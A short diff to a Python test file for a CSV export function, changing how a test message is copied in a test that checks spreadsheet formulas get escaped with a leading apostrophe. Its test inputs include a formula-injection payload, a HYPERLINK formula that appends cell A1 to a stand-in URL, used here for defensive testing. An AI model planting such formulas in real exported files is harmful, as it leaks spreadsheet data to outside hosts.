@@ -7,7 +7,6 @@ import io
 import json
 import time
 import unicodedata
-from dataclasses import replace
 
 import pytest
 from hypothesis import example, given
@@ -89,7 +88,7 @@ FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"x")', "+1", "-1", "@x", "\t=1
 def test_a_formula_is_text_in_every_column_unless_it_is_to_be_exact(
     formula: str, column: str, field: str
 ):
-    message = replace(said("hi"), **{field: formula})
+    message = said("hi")._replace(**{field: formula})
     assert csv_row(message)[column] == f"'{formula}"
     assert csv_row(message, exact=True)[column] == formula
 
